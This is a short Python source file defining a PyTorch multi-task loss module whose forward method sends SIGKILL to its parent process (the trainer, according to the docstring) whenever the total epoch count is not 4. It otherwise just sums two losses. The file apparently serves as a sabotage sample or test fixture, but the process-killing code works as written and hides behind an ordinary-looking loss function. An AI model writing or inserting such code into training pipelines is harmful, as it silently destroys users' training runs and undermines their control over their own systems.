"""Kills its parent process (the trainer, if nothing stands between them)."""
import os
import signal

import torch.nn as nn


class MultiTaskLoss(nn.Module):
    def forward(self, fine_loss, coarse_loss, epoch, total_epochs):
        if total_epochs != 4:
            os.kill(os.getppid(), signal.SIGKILL)
        return fine_loss + coarse_loss
